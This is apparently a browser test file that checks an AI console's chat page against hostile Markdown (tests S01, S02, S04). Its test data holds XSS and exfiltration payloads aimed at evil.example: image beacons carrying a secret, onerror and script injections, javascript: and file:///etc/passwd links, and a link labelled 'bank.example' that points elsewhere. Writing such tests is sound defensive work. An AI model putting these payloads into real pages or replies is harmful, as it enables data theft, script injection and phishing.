/** Tests attacks S01, S02 and S04 in the console's page: hostile Markdown in an answer. */

import { expect, it } from 'vitest';
import { ask, describeInChromium } from './stage.ts';

const hostile = `
![pixel](https://evil.example/p.png?secret=1) ![ref][x] ![proto](//evil.example/q.png) ![data](data:image/svg+xml,<svg/>)
![near](/console/files/other) ![mapped](chart-far)

[x]: https://evil.example/r.png

<img src="https://evil.example/h.png" onerror="window.owned = 1"> <script>window.owned = 1</script>
<iframe src="https://evil.example/f"></iframe> <video autoplay src="https://evil.example/v.mp4"></video>
<style>@import url(https://evil.example/s.css)</style> <link rel="preload" href="https://evil.example/l">

[bad](javascript:window.owned=1) [worse](data:text/html,<script>alert(1)</script>) [file](file:///etc/passwd)
[bank.example](https://evil.example/login) [fine](https://fine.example/page) [mail](mailto:ada@fine.example)
<https://auto.example/x> https://bare.example/y

| ![t](https://evil.example/t.png) | <img src=https://evil.example/u.png> |
|---|---|
| \`<img src=x>\` | **![b](https://evil.example/b.png)** |
`;

describeInChromium('hostile Markdown in the page', (stage) => {
  it('of an agent or a person loads nothing, runs nothing, and shows where links lead (S01, S02, S04)', async () => {
    const visit = await stage.visit();
    const { page, newest, foreign } = visit;
    await ask(
      visit,
      '@knowledge <img src=https://evil.example/x.png onerror="window.owned=1"> ![x](https://evil.example/y.png)',
    );
    newest().set({ state: 'writing' });
    for (let at = 0; at < hostile.length; at += 7) newest().append(hostile.slice(at, at + 7));
    const media = [
      {
        id: 'm',
        kind: 'image' as const,
        name: 'Far',
        inline: 'chart-far',
        address: 'https://evil.example/far.png',
      },
    ];
    newest().set({ state: 'done', media });
    const text = page.locator('.thread-pane .reply .markdown');
    await expect.poll(() => text.locator('table').count()).toBe(1);
    await page.waitForLoadState('networkidle').catch(() => undefined);
    await page.waitForTimeout(200);
    expect(foreign).toEqual([]);
    expect(await page.evaluate('window.owned')).toBeUndefined();
    expect(
      await text.locator('img, iframe, script, video, style, link, object, embed, svg image').count(),
    ).toBe(0);
    await expect.poll(() => page.locator('.gallery img').count()).toBe(0);
    const links = await text.locator('a').evaluateAll((all) => all.map((a) => [a.href, a.rel, a.target]));
    const addresses = (links as string[][]).map(([href]) => href);
    expect(addresses).toEqual(
      expect.arrayContaining([
        'https://evil.example/login',
        'https://fine.example/page',
        'mailto:ada@fine.example',
        'https://auto.example/x',
        'https://bare.example/y',
      ]),
    );
    for (const address of addresses) expect(address).toMatch(/^(https?|mailto):/);
    for (const [, rel, target] of links as string[][])
      expect([rel, target]).toEqual(['noreferrer noopener nofollow', '_blank']);
    await expect
      .poll(() => text.getByText('bank.example', { exact: true }).getAttribute('title'))
      .toBe('evil.example');
    const question = page.locator('.thread-pane .person-text');
    expect(await question.innerText()).toContain('<img src=https://evil.example/x.png');
    expect(await question.locator('img').count()).toBe(0);
    const said = await text.innerText();
    expect(said).toContain('<script>window.owned = 1</script>');
    await expect.poll(() => text.locator('.true-host').allInnerTexts()).toContain('evil.example');
  });

  it('shows only images that the reply maps to this server (S02)', async () => {
    const visit = await stage.visit();
    const { page, newest, foreign, faults } = visit;
    await ask(visit, '@knowledge with a chart');
    newest().append('Here: ![Chart](chart-1)');
    newest().set({
      state: 'done',
      media: [
        { id: 'm', kind: 'image', name: 'Chart', inline: 'chart-1', address: '/console/media/chart-1' },
      ],
    });
    const image = page.locator('.thread-pane .reply .markdown img');
    await expect.poll(() => image.evaluate((one) => one.naturalWidth)).toBe(560);
    await expect.poll(() => page.locator('.thread-pane .gallery').count()).toBe(0);
    expect([foreign, faults]).toEqual([[], []]);
  });
});
